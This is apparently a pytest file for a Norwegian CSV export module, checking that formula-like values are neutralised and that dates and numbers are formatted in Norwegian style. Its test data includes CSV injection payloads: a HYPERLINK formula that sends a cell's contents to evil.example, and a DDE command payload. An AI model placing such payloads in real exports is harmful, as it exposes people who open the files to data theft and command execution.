"""The one CSV writer (beredskap.csvfile): a round trip through Python's csv with `;`, and the formula cases."""

import csv
import io
from datetime import UTC, date, datetime

import pytest

from beredskap.csvfile import cell, unescape_cell, write_csv

# OWASP «CSV injection»: everything a spreadsheet would run, plus text that only looks dangerous.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["Kari Nordmann", 'Tekst; med semikolon, komma og "sitat"', "linje 1\nlinje 2", "æøå ÆØÅ – §", "", "'sitat"]


def _read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def test_round_trip_through_python_csv_with_semicolons():
    rows = [[value, len(value)] for value in FORMULAS + HARMLESS]

    text = write_csv(["Tekst", "Lengde"], rows)

    read = _read(text)
    assert read[0] == ["Tekst", "Lengde"]
    assert [[unescape_cell(text_cell), int(length)] for text_cell, length in read[1:]] == rows
    assert "\r\n" in text and text.count("\r\n") >= len(rows) + 1


@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_are_written_as_text(value):
    (written,) = _read(write_csv(["Tekst"], [[value]]))[1]
    assert written == "'" + value
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", ["+47 400 00 000", "Kari", "1+1"])
def test_phone_numbers_and_plain_text_are_left_alone(value):
    assert _read(write_csv(["Tekst"], [[value]]))[1] == [value]


def test_times_are_local_norwegian_and_dates_and_numbers_norwegian():
    assert cell(datetime(2026, 7, 1, 10, 5, 59, 123456, tzinfo=UTC)) == "01.07.2026 12:05"
    assert cell(datetime(2026, 12, 1, 10, 5, tzinfo=UTC)) == "01.12.2026 11:05"
    assert cell(datetime(2026, 12, 1, 10, 5)) == "01.12.2026 11:05"  # naive is UTC, as the database stores it
    assert cell(date(2026, 3, 9)) == "09.03.2026"
    assert cell(2.5) == "2,5" and cell(12) == "12" and cell(None) == "" and cell(True) == "ja"
